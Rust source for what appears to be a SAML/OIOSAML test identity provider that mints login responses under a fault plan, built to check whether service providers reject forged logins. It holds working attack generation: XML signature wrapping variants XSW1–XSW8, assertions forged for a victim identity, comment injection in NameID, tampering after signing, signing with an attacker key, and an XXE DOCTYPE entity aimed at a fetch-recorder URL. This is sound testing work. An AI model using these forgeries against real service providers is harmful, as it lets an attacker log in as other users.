//! Minting a login response: model -> faults -> XML -> sign -> wrap -> encrypt -> Response.
//!
//! This is the one pipeline behind the SSO endpoint, the `mint` CLI command and the benchmarks.
//! The fault plan ([`crate::dangerous`]) is applied at the stage each fault belongs to, so a
//! correct login is simply the empty plan.

use super::assertion::{
    AssertionModel, AttributeModel, IssuerModel, ModelContext, ResponseModel, StatusModel,
    legacy_oiosaml2_response, oiosaml3_response,
};
use super::ns;
use super::response::{fmt_instant, signature_template, write_assertion, write_response};
use super::xmlsec::{EncryptionAlgorithms, XmlEncryptor, XmlSecError, XmlSigner};
use crate::dangerous::{
    Fault, FaultError, FaultPlan, KeyInfoChoice, ModelPath, SigningKeyChoice, XswVariant,
};
use crate::identity::{IdentityStore, TestIdentity};
use crate::nsis::Loa;
use crate::pki::RsaSigner;
use std::sync::Arc;

/// A signing key with the certificate that goes into KeyInfo.
#[derive(Debug, Clone)]
pub struct SigningKey {
    /// The parsed private key.
    pub signer: Arc<RsaSigner>,
    /// Base64 DER of the certificate.
    pub cert_b64: String,
}

/// The keys a broker can sign with (the dangerous choices included).
#[derive(Debug, Clone)]
pub struct SigningKeys {
    /// The OCES3 IdP key published in metadata.
    pub idp: SigningKey,
    /// The second OCES3 IdP key (rotation), also published.
    pub idp_next: SigningKey,
    /// The OCES2-era key, not published.
    pub oces2: SigningKey,
    /// The self-signed attacker key.
    pub attacker: SigningKey,
}

impl SigningKeys {
    /// The mock keys from the built-in PKI fixtures.
    pub fn mock() -> Result<Self, crate::pki::PkiError> {
        let pki = crate::pki::MockPki::builtin();
        let k = |c: &crate::pki::Credential| -> Result<SigningKey, crate::pki::PkiError> {
            Ok(SigningKey {
                signer: Arc::new(c.rsa_signer()?),
                cert_b64: c.cert_base64(),
            })
        };
        Ok(SigningKeys {
            idp: k(&pki.idp_oces3)?,
            idp_next: k(&pki.idp_oces3_next)?,
            oces2: k(&pki.idp_oces2)?,
            attacker: k(&pki.attacker)?,
        })
    }

    /// The mock keys, but with the user's own IdP key and certificate in place of the mock
    /// OCES3 IdP credential (e.g. a test certificate their SP already trusts).
    pub fn with_idp(cred: &crate::pki::Credential) -> Result<Self, crate::pki::PkiError> {
        let mut k = Self::mock()?;
        k.idp = SigningKey {
            signer: Arc::new(cred.rsa_signer()?),
            cert_b64: cred.cert_base64(),
        };
        Ok(k)
    }

    fn choose(&self, c: SigningKeyChoice) -> &SigningKey {
        match c {
            SigningKeyChoice::Idp => &self.idp,
            SigningKeyChoice::IdpNext => &self.idp_next,
            SigningKeyChoice::Oces2 => &self.oces2,
            SigningKeyChoice::Attacker => &self.attacker,
        }
    }
}

/// Everything one mint needs.
#[derive(Debug)]
pub struct MintInput<'a> {
    /// Model context (entity IDs, ACS, IDs, clock).
    pub ctx: ModelContext,
    /// Who logs in.
    pub identity: &'a TestIdentity,
    /// At which LoA.
    pub loa: Loa,
    /// All identities (victims of wrapping faults are looked up here).
    pub identities: &'a IdentityStore,
    /// The SP's encryption certificate (DER), from its metadata.
    pub sp_encryption_cert: Option<&'a [u8]>,
    /// Encryption algorithms chosen for this SP.
    pub encryption: EncryptionAlgorithms,
    /// Faults to apply.
    pub plan: &'a FaultPlan,
    /// Signing keys.
    pub keys: &'a SigningKeys,
    /// URL of the broker's fetch recorder for this flow (DOCTYPE fault).
    pub fetch_recorder_url: Option<String>,
}

/// The result of a mint.
#[derive(Debug, Clone)]
pub struct Minted {
    /// The final `samlp:Response` XML (what is base64-encoded into `SAMLResponse`).
    pub response_xml: String,
    /// The (first) assertion as signed, before encryption, for debugging.
    pub signed_assertion_xml: Option<String>,
    /// The encryption algorithms used, when the assertion was encrypted.
    pub encryption: Option<EncryptionAlgorithms>,
    /// The model after faults (what the response claims).
    pub model: ResponseModel,
}

/// Errors while minting.
#[derive(Debug, thiserror::Error)]
pub enum MintError {
    /// A fault could not be applied.
    #[error(transparent)]
    Fault(#[from] FaultError),
    /// Signing or encryption failed.
    #[error(transparent)]
    XmlSec(#[from] XmlSecError),
    /// The SP has no encryption certificate but the profile requires encryption.
    #[error(
        "the SP's metadata has no encryption certificate (KeyDescriptor use=\"encryption\"); OIOSAML 3 requires encrypted assertions"
    )]
    NoEncryptionCert,
}

/// Split `now-5m.123` into `now-5m` and the fraction `123`. Only time placeholders take a
/// fraction; SAML allows any number of fractional digits, and SPs must accept them
/// (spid-sp-test case 110), so scenarios need to write them explicitly.
fn split_fraction<'a>(key: &'a str, value: &str) -> Result<(&'a str, Option<&'a str>), FaultError> {
    match key.split_once('.') {
        Some((k, f)) if k.starts_with("now") => {
            if f.is_empty() || f.len() > 9 || !f.bytes().all(|b| b.is_ascii_digit()) {
                return Err(FaultError::BadPlaceholder(
                    value.into(),
                    format!("the fraction in {{{key}}} must be 1 to 9 digits"),
                ));
            }
            Ok((k, Some(f)))
        }
        _ => Ok((key, None)),
    }
}

/// Expand `{now}`, `{now+5m}`, `{now-2h}`, `{now+1d}`, `{acs}`, `{sp}`, `{idp}`, `{request_id}`.
/// Time placeholders may carry a fraction of a second, added to the previous whole second:
/// `{now.123}` at 12:00:00 -> `...T11:59:59.123Z`.
pub fn expand_placeholders(value: &str, ctx: &ModelContext) -> Result<String, FaultError> {
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(start) = rest.find('{') {
        out.push_str(&rest[..start]);
        let end = rest[start..]
            .find('}')
            .ok_or_else(|| FaultError::BadPlaceholder(value.into(), "unclosed '{'".into()))?
            + start;
        let (key, fraction) = split_fraction(&rest[start + 1..end], value)?;
        let at = |t: time::OffsetDateTime| match fraction {
            None => fmt_instant(t),
            // The fraction is added to the *previous* whole second, so `{now.123}` is never
            // later than now (an SP with no allowance for the future must still accept it).
            Some(f) => {
                let whole = fmt_instant(
                    t - time::Duration::nanoseconds(i64::from(t.nanosecond()))
                        - time::Duration::seconds(1),
                );
                format!("{}.{f}Z", whole.trim_end_matches('Z'))
            }
        };
        let v = match key {
            "acs" => ctx.acs_url.clone(),
            "sp" => ctx.sp_entity_id.clone(),
            "idp" => ctx.idp_entity_id.clone(),
            "request_id" => ctx.in_response_to.clone().unwrap_or_default(),
            "now" => at(ctx.now),
            k if k.starts_with("now+") || k.starts_with("now-") => {
                let sign = if k.as_bytes()[3] == b'+' { 1 } else { -1 };
                let spec = &k[4..];
                let (num, unit) = spec.split_at(
                    spec.find(|c: char| !c.is_ascii_digit())
                        .unwrap_or(spec.len()),
                );
                let n: i64 = num.parse().map_err(|_| {
                    FaultError::BadPlaceholder(value.into(), format!("bad number in {k}"))
                })?;
                let d = match unit {
                    "s" => time::Duration::seconds(n),
                    "m" => time::Duration::minutes(n),
                    "h" => time::Duration::hours(n),
                    "d" => time::Duration::days(n),
                    "y" => time::Duration::days(365 * n),
                    _ => {
                        return Err(FaultError::BadPlaceholder(
                            value.into(),
                            format!("unit in {k} must be s, m, h, d or y"),
                        ));
                    }
                };
                at(ctx.now + d * sign)
            }
            other => {
                return Err(FaultError::BadPlaceholder(
                    value.into(),
                    format!("unknown placeholder {{{other}}}"),
                ));
            }
        };
        out.push_str(&v);
        rest = &rest[end + 1..];
    }
    out.push_str(rest);
    Ok(out)
}

fn apply_path(
    model: &mut ResponseModel,
    path: ModelPath,
    value: Option<String>,
    name: &str,
) -> Result<(), FaultError> {
    use ModelPath as P;
    let set = |slot: &mut Option<String>| *slot = value.clone();
    let element_only = || FaultError::NotSettable(name.to_string());
    match path {
        P::ResponseId => set(&mut model.id),
        P::ResponseVersion => set(&mut model.version),
        P::ResponseIssueInstant => set(&mut model.issue_instant),
        P::ResponseDestination => set(&mut model.destination),
        P::ResponseInResponseTo => set(&mut model.in_response_to),
        P::ResponseIssuer => match &value {
            None => model.issuer = None,
            Some(v) => match &mut model.issuer {
                Some(i) => i.value = v.clone(),
                None => {
                    model.issuer = Some(IssuerModel {
                        value: v.clone(),
                        format: None,
                    })
                }
            },
        },
        P::ResponseIssuerFormat => {
            if let Some(i) = &mut model.issuer {
                set(&mut i.format)
            }
        }
        P::ResponseStatus => match value {
            None => model.status = None,
            Some(_) => return Err(element_only()),
        },
        _ => {
            for a in &mut model.assertions {
                apply_assertion_path(a, path, value.clone(), name)?;
            }
        }
    }
    Ok(())
}

fn apply_assertion_path(
    a: &mut AssertionModel,
    path: ModelPath,
    value: Option<String>,
    name: &str,
) -> Result<(), FaultError> {
    use ModelPath as P;
    let element_only = || FaultError::NotSettable(name.to_string());
    let remove_only = |v: &Option<String>| {
        if v.is_some() {
            Err(element_only())
        } else {
            Ok(())
        }
    };
    match path {
        P::AssertionId => a.id = value,
        P::AssertionVersion => a.version = value,
        P::AssertionIssueInstant => a.issue_instant = value,
        P::AssertionIssuer => match value {
            None => a.issuer = None,
            Some(v) => match &mut a.issuer {
                Some(i) => i.value = v,
                None => {
                    a.issuer = Some(IssuerModel {
                        value: v,
                        format: None,
                    })
                }
            },
        },
        P::AssertionIssuerFormat => {
            if let Some(i) = &mut a.issuer {
                i.format = value
            }
        }
        P::Subject => {
            remove_only(&value)?;
            a.subject = None
        }
        P::NameId => {
            if let Some(s) = &mut a.subject {
                match value {
                    None => s.name_id = None,
                    Some(v) => {
                        if let Some(n) = &mut s.name_id {
                            n.value = v
                        }
                    }
                }
            }
        }
        P::NameIdFormat | P::NameIdNameQualifier => {
            if let Some(n) = a.subject.as_mut().and_then(|s| s.name_id.as_mut()) {
                if path == P::NameIdFormat {
                    n.format = value
                } else {
                    n.name_qualifier = value
                }
            }
        }
        P::SubjectConfirmation => {
            remove_only(&value)?;
            if let Some(s) = &mut a.subject {
                s.confirmations.clear()
            }
        }
        P::SubjectConfirmationMethod => {
            for c in a
                .subject
                .iter_mut()
                .flat_map(|s| s.confirmations.iter_mut())
            {
                c.method = value.clone();
            }
        }
        P::SubjectConfirmationData => {
            remove_only(&value)?;
            for c in a
                .subject
                .iter_mut()
                .flat_map(|s| s.confirmations.iter_mut())
            {
                c.data = None;
            }
        }
        P::Recipient
        | P::ConfirmationNotOnOrAfter
        | P::ConfirmationNotBefore
        | P::ConfirmationInResponseTo => {
            for d in a
                .subject
                .iter_mut()
                .flat_map(|s| s.confirmations.iter_mut())
                .filter_map(|c| c.data.as_mut())
            {
                let slot = match path {
                    P::Recipient => &mut d.recipient,
                    P::ConfirmationNotOnOrAfter => &mut d.not_on_or_after,
                    P::ConfirmationNotBefore => &mut d.not_before,
                    _ => &mut d.in_response_to,
                };
                *slot = value.clone();
            }
        }
        P::Conditions => {
            remove_only(&value)?;
            a.conditions = None
        }
        P::ConditionsNotBefore => {
            if let Some(c) = &mut a.conditions {
                c.not_before = value
            }
        }
        P::ConditionsNotOnOrAfter => {
            if let Some(c) = &mut a.conditions {
                c.not_on_or_after = value
            }
        }
        P::AudienceRestriction => {
            remove_only(&value)?;
            if let Some(c) = &mut a.conditions {
                c.audience_restrictions.clear()
            }
        }
        P::Audience => {
            if let Some(c) = &mut a.conditions {
                for ar in &mut c.audience_restrictions {
                    match &value {
                        None => ar.clear(),
                        Some(v) => *ar = vec![v.clone()],
                    }
                }
            }
        }
        P::AuthnStatement => {
            remove_only(&value)?;
            a.authn_statements.clear()
        }
        P::AuthnInstant | P::SessionIndex | P::SessionNotOnOrAfter | P::AuthnContextClassRef => {
            for st in &mut a.authn_statements {
                let slot = match path {
                    P::AuthnInstant => &mut st.authn_instant,
                    P::SessionIndex => &mut st.session_index,
                    P::SessionNotOnOrAfter => &mut st.session_not_on_or_after,
                    _ => &mut st.class_ref,
                };
                *slot = value.clone();
            }
        }
        P::AttributeStatement => {
            remove_only(&value)?;
            a.attribute_statements.clear()
        }
        _ => {}
    }
    Ok(())
}

fn victim<'a>(
    input: &'a MintInput<'_>,
    name: &Option<String>,
) -> Result<&'a TestIdentity, FaultError> {
    match name {
        Some(n) => input
            .identities
            .get(n)
            .ok_or_else(|| FaultError::UnknownIdentity(n.clone())),
        None => input
            .identities
            .iter()
            .find(|i| i.kind == input.identity.kind && i.id != input.identity.id)
            .or_else(|| input.identities.iter().find(|i| i.id != input.identity.id))
            .ok_or_else(|| FaultError::UnknownIdentity("<any other identity>".into())),
    }
}

/// Apply the model-stage faults.
fn apply_model_faults(input: &MintInput<'_>, model: &mut ResponseModel) -> Result<(), MintError> {
    for f in &input.plan.faults {
        match f {
            Fault::Set { path, value } => {
                let p = ModelPath::parse(path)?;
                let v = expand_placeholders(value, &input.ctx)?;
                apply_path(model, p, Some(v), path)?;
            }
            Fault::Remove { path } => {
                let p = ModelPath::parse(path)?;
                apply_path(model, p, None, path)?;
            }
            Fault::SetAttribute {
                name,
                values,
                name_format,
            } => {
                let values = values
                    .iter()
                    .map(|v| expand_placeholders(v, &input.ctx))
                    .collect::<Result<Vec<_>, _>>()?;
                let mut attr = if name.starts_with("https://") {
                    AttributeModel::oiosaml3(name, values)
                } else {
                    AttributeModel::legacy(name, values)
                };
                if name_format.is_some() {
                    attr.name_format = name_format.clone();
                }
                for a in &mut model.assertions {
                    a.set_attribute(attr.clone());
                }
            }
            Fault::RemoveAttribute { name } => {
                for a in &mut model.assertions {
                    a.remove_attribute(name);
                }
            }
            Fault::RemoveNameFormat { name } => {
                for attr in model.assertions.iter_mut().flat_map(|a| a.attributes_mut()) {
                    if name.as_ref().is_none_or(|n| *n == attr.name) {
                        attr.name_format = None;
                    }
                }
            }
            Fault::AddAudience { value, separate } => {
                let v = expand_placeholders(value, &input.ctx)?;
                for c in model
                    .assertions
                    .iter_mut()
                    .filter_map(|a| a.conditions.as_mut())
                {
                    if *separate || c.audience_restrictions.is_empty() {
                        c.audience_restrictions.push(vec![v.clone()]);
                    } else {
                        c.audience_restrictions[0].push(v.clone());
                    }
                }
            }
            Fault::LegacyOiosaml2 => {
                let legacy = legacy_oiosaml2_response(&input.ctx, input.identity);
                model.assertions = legacy.assertions;
            }
            Fault::Status {
                code,
                sub_code,
                message,
            } => {
                model.status = Some(StatusModel {
                    code: Some(code.clone()),
                    sub_code: sub_code.clone(),
                    message: message.clone(),
                });
            }
            Fault::NoAssertion => model.assertions.clear(),
            _ => {}
        }
    }
    Ok(())
}

fn signature_span(xml: &str) -> Option<(usize, usize)> {
    let start = xml.find("<ds:Signature")?;
    let end = xml[start..].find("</ds:Signature>")? + start + "</ds:Signature>".len();
    Some((start, end))
}

fn strip_signature(xml: &str) -> String {
    match signature_span(xml) {
        Some((s, e)) => format!("{}{}", &xml[..s], &xml[e..]),
        None => xml.to_string(),
    }
}

fn insert_in_text_of(
    xml: &str,
    open_tag_prefix: &str,
    close_tag: &str,
    after: usize,
    ins: &str,
) -> String {
    let Some(open) = xml.find(open_tag_prefix) else {
        return xml.to_string();
    };
    let Some(gt) = xml[open..].find('>') else {
        return xml.to_string();
    };
    let text_start = open + gt + 1;
    let Some(close) = xml[text_start..].find(close_tag) else {
        return xml.to_string();
    };
    let text = &xml[text_start..text_start + close];
    let split = text
        .char_indices()
        .nth(after)
        .map(|(i, _)| i)
        .unwrap_or(text.len());
    format!(
        "{}{}{}{}",
        &xml[..text_start + split],
        ins,
        &text[split..],
        &xml[text_start + close..]
    )
}

fn replace_name_id(xml: &str, new_value: &str) -> String {
    let Some(open) = xml.find("<saml:NameID") else {
        return xml.to_string();
    };
    let Some(gt) = xml[open..].find('>') else {
        return xml.to_string();
    };
    let ts = open + gt + 1;
    let Some(close) = xml[ts..].find("</saml:NameID>") else {
        return xml.to_string();
    };
    format!(
        "{}{}{}",
        &xml[..ts],
        super::xml::escape_text(new_value),
        &xml[ts + close..]
    )
}

/// `<ds:KeyInfo>` carrying the bare RSA public key of `cert_b64` as `ds:RSAKeyValue`
/// (XML-DSig 4.4.2.2: Modulus and Exponent as base64 big-endian CryptoBinary, no leading zero
/// octets). The key is taken from the signer's own certificate, so the signature verifies with
/// exactly the key KeyInfo offers.
fn rsa_key_value(cert_b64: &str) -> Result<String, MintError> {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD;
    let der = b64
        .decode(cert_b64)
        .map_err(|e| XmlSecError::Library(format!("signing certificate is not base64: {e}")))?;
    let (_, cert) = x509_parser::parse_x509_certificate(&der)
        .map_err(|e| XmlSecError::Library(format!("signing certificate: {e}")))?;
    let Ok(x509_parser::public_key::PublicKey::RSA(rsa)) = cert.public_key().parsed() else {
        return Err(
            XmlSecError::Unsupported("ds:RSAKeyValue for a non-RSA signing key".into()).into(),
        );
    };
    let unsigned = |b: &[u8]| -> String {
        let first = b.iter().position(|x| *x != 0).unwrap_or(b.len());
        b64.encode(&b[first..])
    };
    Ok(format!(
        "<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{}</ds:Modulus><ds:Exponent>{}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>",
        unsigned(rsa.modulus),
        unsigned(rsa.exponent)
    ))
}

/// A Signature template (written without KeyInfo) with `key_info` as its last child, where
/// XML-DSig puts KeyInfo (after SignatureValue).
fn with_key_info(template: String, key_info: &str) -> String {
    match template.rfind("</ds:Signature>") {
        Some(end) => format!("{}{key_info}{}", &template[..end], &template[end..]),
        None => template,
    }
}

struct Fragment {
    xml: String,
    encrypt: bool,
}

/// Mint a response under the plan.
pub fn mint(
    input: &MintInput<'_>,
    signer: &dyn XmlSigner,
    encryptor: &dyn XmlEncryptor,
) -> Result<Minted, MintError> {
    let plan = input.plan;
    let mut model = oiosaml3_response(&input.ctx, input.identity, input.loa);
    apply_model_faults(input, &mut model)?;

    // ---- crypto choices ----
    let mut key_choice = SigningKeyChoice::Idp;
    let mut key_info = KeyInfoChoice::Signer;
    let mut enc_override: Option<EncryptionAlgorithms> = None;
    for f in &plan.faults {
        match f {
            Fault::SignWith { key } => key_choice = *key,
            Fault::KeyInfo { cert } => key_info = *cert,
            Fault::EncryptWith {
                data,
                key_transport,
            } => {
                enc_override = Some(EncryptionAlgorithms {
                    data: data.clone(),
                    key_transport: key_transport.clone(),
                    oaep_digest: None,
                    oaep_mgf: None,
                })
            }
            _ => {}
        }
    }
    let unsigned = plan.has(|f| {
        matches!(
            f,
            Fault::UnsignedAssertion
                | Fault::SignedForeignElement {
                    keep_assertion_signature: false
                }
        )
    });
    let sha1 = plan.has(|f| matches!(f, Fault::Sha1));
    let no_encryption = plan.has(|f| matches!(f, Fault::NoEncryption));
    let key = input.keys.choose(key_choice);
    let template_for = |id: &str, k: &SigningKey| -> Result<String, MintError> {
        Ok(match key_info {
            KeyInfoChoice::Signer => signature_template(id, Some(&k.cert_b64), sha1),
            KeyInfoChoice::None => signature_template(id, None, sha1),
            KeyInfoChoice::KeyValue => with_key_info(
                signature_template(id, None, sha1),
                &rsa_key_value(&k.cert_b64)?,
            ),
        })
    };

    let sign_assertion = |a: &AssertionModel, k: &SigningKey| -> Result<String, MintError> {
        let id = a.id.clone().unwrap_or_default();
        let tpl = template_for(&id, k)?;
        let xml = write_assertion(a, Some(&tpl));
        Ok(signer.sign_enveloped(xml, &k.signer, sha1)?)
    };
    let build_assertion = |a: &AssertionModel| -> Result<String, MintError> {
        if unsigned {
            Ok(write_assertion(a, None))
        } else {
            sign_assertion(a, key)
        }
    };
    // Forged elements get IDs derived from this response's own (seeded) IDs, never fixed ones:
    // an SP that accepted one forgery must not reject the next as a replay of the same ID.
    let evil_assertion =
        |victim_name: &Option<String>, suffix: &str| -> Result<AssertionModel, MintError> {
            let v = victim(input, victim_name)?;
            let mut c = input.ctx.clone();
            c.assertion_id = format!("{}{suffix}", input.ctx.assertion_id);
            Ok(oiosaml3_response(&c, v, input.loa).assertions.remove(0))
        };

    // ---- assertions ----
    let mut fragments: Vec<Fragment> = Vec::new();
    let mut signed_first: Option<String> = None;
    let mut response_prefix: Vec<String> = Vec::new();
    // `samlp:Extensions` has a fixed place in the Response (after Issuer and Signature, before
    // Status); it is inserted there when the Response is written, not among the assertions.
    let mut extensions: Option<String> = None;
    // A top-level element written before the Response (SignedElementAsFirstRoot).
    let mut first_root: Option<String> = None;
    for (i, a) in model.assertions.iter().enumerate() {
        let s = build_assertion(a)?;
        if i == 0 {
            signed_first = Some(s.clone());
        }
        fragments.push(Fragment {
            xml: s,
            encrypt: true,
        });
    }
    if let Some(first) = fragments.first_mut() {
        for f in &plan.faults {
            match f {
                Fault::CommentInNameId { after } => {
                    first.xml = insert_in_text_of(
                        &first.xml,
                        "<saml:NameID",
                        "</saml:NameID>",
                        *after,
                        "<!---->",
                    );
                }
                Fault::CommentInAttribute { name, after } => {
                    let open = format!(
                        r#"<saml:Attribute Name="{}""#,
                        super::xml::escape_attr(name)
                    );
                    if let Some(pos) = first.xml.find(&open) {
                        let (head, tail) = first.xml.split_at(pos);
                        let tail = insert_in_text_of(
                            tail,
                            "<saml:AttributeValue",
                            "</saml:AttributeValue>",
                            *after,
                            "<!---->",
                        );
                        first.xml = format!("{head}{tail}");
                    }
                }
                Fault::TamperAfterSigning { victim: v } => {
                    let v = victim(input, v)?;
                    first.xml = replace_name_id(&first.xml, &v.name_id());
                }
                Fault::DigestValueComment | Fault::TwoSignedInfo => {
                    // Tamper the NameID, and obtain the digest (and a SignedInfo) that match the
                    // tampered content by signing a tampered copy with the attacker key.
                    let v = victim(input, &None)?;
                    let mut tampered = model.assertions[0].clone();
                    if let Some(n) = tampered.subject.as_mut().and_then(|s| s.name_id.as_mut()) {
                        n.value = v.name_id();
                    }
                    let forged = sign_assertion(&tampered, &input.keys.attacker)?;
                    let digest_of = |x: &str| -> Option<String> {
                        let s = x.find("<ds:DigestValue>")? + "<ds:DigestValue>".len();
                        let e = x[s..].find("</ds:DigestValue>")? + s;
                        Some(x[s..e].to_string())
                    };
                    let signed_info_of = |x: &str| -> Option<String> {
                        let s = x.find("<ds:SignedInfo>")?;
                        let e = x[s..].find("</ds:SignedInfo>")? + s + "</ds:SignedInfo>".len();
                        Some(x[s..e].to_string())
                    };
                    let mut x = replace_name_id(&first.xml, &v.name_id());
                    if matches!(f, Fault::DigestValueComment) {
                        if let Some(d) = digest_of(&forged) {
                            x = x.replacen(
                                "<ds:DigestValue>",
                                &format!("<ds:DigestValue><!--{d}-->"),
                                1,
                            );
                        }
                    } else if let Some(si) = signed_info_of(&forged) {
                        x = x.replacen("</ds:SignedInfo>", &format!("</ds:SignedInfo>{si}"), 1);
                    }
                    first.xml = x;
                }
                _ => {}
            }
        }
    }
    for f in &plan.faults {
        match f {
            Fault::AppendUnsignedAssertion { victim: v } => {
                let e = evil_assertion(v, "-evil-second")?;
                fragments.push(Fragment {
                    xml: write_assertion(&e, None),
                    encrypt: true,
                });
            }
            Fault::SignedElementAsFirstRoot { victim: v } => {
                // The login's own signed assertion moves out in front of the Response, standing
                // alone (it declares its own namespaces); the Response keeps an unsigned
                // assertion for the victim in its place. Both in plaintext, like the interop
                // probe (tests/interop/lib/probe_two_roots.py): the stacks this was published
                // against (passport-saml 3) accept plaintext assertions.
                let Some(first) = fragments.first_mut() else {
                    continue;
                };
                let forged = write_assertion(&evil_assertion(v, "-forged")?, None);
                first_root = Some(std::mem::replace(&mut first.xml, forged));
                first.encrypt = false;
            }
            Fault::SignedForeignElement { .. } => {
                // A genuinely signed IdP element, next to the unsigned assertion.
                let md_id = "_signed-foreign-element";
                let tpl = signature_template(md_id, Some(&input.keys.idp.cert_b64), false);
                let md = format!(
                    r#"<md:EntityDescriptor xmlns:md="{}" ID="{md_id}" entityID="{}">{tpl}<md:IDPSSODescriptor protocolSupportEnumeration="{}"/></md:EntityDescriptor>"#,
                    ns::MD,
                    super::xml::escape_attr(&input.ctx.idp_entity_id),
                    ns::SAMLP
                );
                response_prefix.push(signer.sign_enveloped(md, &input.keys.idp.signer, false)?);
            }
            Fault::Xsw { variant, victim: v } => {
                let Some(signed) = fragments.first().map(|f| f.xml.clone()) else {
                    continue;
                };
                let orig_id = model
                    .assertions
                    .first()
                    .and_then(|a| a.id.clone())
                    .unwrap_or_default();
                let evil = evil_assertion(v, "-evil")?;
                let (ss, se) = signature_span(&signed).unwrap_or((0, 0));
                let sig = &signed[ss..se];
                let clean = strip_signature(&signed);
                match variant {
                    XswVariant::Xsw3 => {
                        fragments.insert(
                            0,
                            Fragment {
                                xml: write_assertion(&evil, None),
                                encrypt: true,
                            },
                        );
                    }
                    XswVariant::Xsw4 => {
                        let e = write_assertion(&evil, None);
                        let e = e.replacen(
                            "</saml:Assertion>",
                            &format!("{signed}</saml:Assertion>"),
                            1,
                        );
                        fragments[0] = Fragment {
                            xml: e,
                            encrypt: true,
                        };
                    }
                    XswVariant::Xsw5 | XswVariant::Xsw6 | XswVariant::Xsw8 => {
                        let inner = match variant {
                            XswVariant::Xsw5 => sig.to_string(),
                            XswVariant::Xsw6 => sig.replacen(
                                "</ds:Signature>",
                                &format!("{clean}</ds:Signature>"),
                                1,
                            ),
                            _ => sig.replacen(
                                "</ds:Signature>",
                                &format!("<ds:Object>{clean}</ds:Object></ds:Signature>"),
                                1,
                            ),
                        };
                        let e = write_assertion(&evil, Some(&inner));
                        fragments[0] = Fragment {
                            xml: e,
                            encrypt: true,
                        };
                        if *variant == XswVariant::Xsw5 {
                            fragments.push(Fragment {
                                xml: clean,
                                encrypt: true,
                            });
                        }
                    }
                    XswVariant::Xsw7 => {
                        extensions =
                            Some(format!(r#"<samlp:Extensions>{signed}</samlp:Extensions>"#));
                        fragments[0] = Fragment {
                            xml: write_assertion(&evil, None),
                            encrypt: true,
                        };
                    }
                    XswVariant::Xsw1 | XswVariant::Xsw2 => {
                        // Response-level: handled after the response is signed below.
                        let _ = orig_id;
                    }
                }
            }
            _ => {}
        }
    }

    // ---- encryption ----
    let encryption = if no_encryption {
        None
    } else {
        Some(enc_override.unwrap_or_else(|| input.encryption.clone()))
    };
    let mut out_fragments = response_prefix;
    for f in &fragments {
        match (&encryption, f.encrypt) {
            (Some(algs), true) => {
                let cert = input
                    .sp_encryption_cert
                    .ok_or(MintError::NoEncryptionCert)?;
                let ed = encryptor.encrypt_element(&f.xml, cert, algs)?;
                out_fragments.push(format!(
                    "<saml:EncryptedAssertion>{ed}</saml:EncryptedAssertion>"
                ));
            }
            _ => out_fragments.push(f.xml.clone()),
        }
    }

    // ---- response ----
    let xsw_response = plan.faults.iter().find_map(|f| match f {
        Fault::Xsw {
            variant: v @ (XswVariant::Xsw1 | XswVariant::Xsw2),
            victim,
        } => Some((*v, victim.clone())),
        _ => None,
    });
    let sign_response = plan.has(|f| matches!(f, Fault::SignResponse)) || xsw_response.is_some();
    let place_extensions = |x: String| -> String {
        match &extensions {
            Some(e) => match x.find("<samlp:Status") {
                Some(p) => format!("{}{e}{}", &x[..p], &x[p..]),
                None => x.replacen("</samlp:Response>", &format!("{e}</samlp:Response>"), 1),
            },
            None => x,
        }
    };
    let mut response_xml = if sign_response {
        let rid = model.id.clone().unwrap_or_default();
        let tpl = template_for(&rid, key)?;
        let x = place_extensions(write_response_with_signature(
            &model,
            &out_fragments,
            Some(&tpl),
        ));
        signer.sign_enveloped(x, &key.signer, sha1)?
    } else {
        place_extensions(write_response_with_signature(&model, &out_fragments, None))
    };
    if let Some((variant, v)) = xsw_response {
        // Evil response around the genuinely signed one.
        let evil = evil_assertion(&v, "-evil")?;
        let evil_xml = write_assertion(&evil, None);
        let evil_frag = match &encryption {
            Some(algs) => {
                let cert = input
                    .sp_encryption_cert
                    .ok_or(MintError::NoEncryptionCert)?;
                format!(
                    "<saml:EncryptedAssertion>{}</saml:EncryptedAssertion>",
                    encryptor.encrypt_element(&evil_xml, cert, algs)?
                )
            }
            None => evil_xml,
        };
        let (ss, se) = signature_span(&response_xml).unwrap_or((0, 0));
        let sig = response_xml[ss..se].to_string();
        let orig_clean = strip_signature(&response_xml);
        let mut evil_model = model.clone();
        evil_model.id = Some(format!(
            "{}-evil",
            model.id.as_deref().unwrap_or("_response")
        ));
        let inner = match variant {
            XswVariant::Xsw1 => sig.replacen(
                "</ds:Signature>",
                &format!("{orig_clean}</ds:Signature>"),
                1,
            ),
            _ => format!("{orig_clean}{sig}"),
        };
        response_xml = write_response_with_signature(&evil_model, &[evil_frag], Some(&inner));
    }

    if let Some(signed) = first_root {
        response_xml = format!("{signed}{response_xml}");
    }

    // ---- final XML faults ----
    for f in &plan.faults {
        match f {
            Fault::Doctype => {
                let url = input
                    .fetch_recorder_url
                    .clone()
                    .unwrap_or_else(|| "http://127.0.0.1:9/xxe".into());
                response_xml = format!(
                    r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "{}">]>{}"#,
                    super::xml::escape_attr(&url),
                    response_xml
                );
                // Reference the entity in the response Issuer so a resolving parser fetches it.
                if let Some(pos) = response_xml.find("</saml:Issuer>") {
                    response_xml.insert_str(pos, "&xxe;");
                }
            }
            Fault::ReplaceText { find, replace } => {
                response_xml = response_xml.replace(find.as_str(), replace);
            }
            _ => {}
        }
    }

    Ok(Minted {
        response_xml,
        signed_assertion_xml: signed_first,
        encryption,
        model,
    })
}

fn write_response_with_signature(
    model: &ResponseModel,
    fragments: &[String],
    sig: Option<&str>,
) -> String {
    match sig {
        None => write_response(model, fragments),
        Some(sig) => {
            // The Signature goes right after the Response's Issuer.
            let base = write_response(model, fragments);
            match base.find("</saml:Issuer>") {
                Some(p) if model.issuer.is_some() => {
                    let at = p + "</saml:Issuer>".len();
                    format!("{}{}{}", &base[..at], sig, &base[at..])
                }
                _ => {
                    let at = base.find('>').map(|p| p + 1).unwrap_or(0);
                    format!("{}{}{}", &base[..at], sig, &base[at..])
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn placeholders() {
        let c = ModelContext {
            idp_entity_id: "I".into(),
            sp_entity_id: "S".into(),
            acs_url: "A".into(),
            in_response_to: Some("R".into()),
            now: time::macros::datetime!(2026-01-01 12:00 UTC),
            response_id: "_r".into(),
